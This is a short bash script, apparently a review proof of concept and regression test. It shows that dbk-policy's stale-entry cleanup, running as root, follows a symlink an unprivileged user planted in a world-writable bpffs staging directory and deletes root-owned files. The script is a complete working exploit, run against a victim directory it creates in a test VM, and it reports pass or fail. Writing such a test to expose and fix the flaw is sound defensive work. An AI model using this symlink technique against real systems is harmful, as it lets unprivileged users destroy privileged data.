#!/bin/bash
# Review PoC: bpffs mounted with the kernel's default mode (1777, not
# systemd's 0700): an unprivileged user pre-creates devbroker-staging and
# plants a stale "load" whose links/ is a symlink; dbk-policy's
# remove_stale() then unlinks, as root, every file the symlink points at.
. tests/vm/lib.sh
POL=$DBK_BUILD/policies/dbk-policy
dbk_load
umount /sys/fs/bpf 2>/dev/null
mount -t bpf bpf /sys/fs/bpf
stat -c '# bpffs root mode %a owner %U' /sys/fs/bpf
mkdir -p /root/victim && echo precious > /root/victim/file1 && echo precious > /root/victim/file2
chmod 700 /root/victim
ls -la /root/victim | sed 's/^/# /'
setpriv --reuid=65534 --regid=65534 --clear-groups sh -c '
	mkdir -m 0777 /sys/fs/bpf/devbroker-staging &&
	mkdir /sys/fs/bpf/devbroker-staging/x-999999 &&
	ln -s /root/victim /sys/fs/bpf/devbroker-staging/x-999999/links && echo "# planted as $(id -u)"' 
ls -la /sys/fs/bpf/devbroker-staging/x-999999 | sed 's/^/# /'
"$POL" load mischief "$DBK_BUILD/tests/policy/mischief.bpf.o" 2>&1 | sed 's/^/# dbk-policy: /'
ls -la /root/victim | sed 's/^/# after: /'
if [ -e /root/victim/file1 ]; then echo "ok 1 - root's files survive"; else echo "not ok 1 - root's files survive (dbk-policy deleted /root/victim/* through a user's symlink)"; fi
exit 0
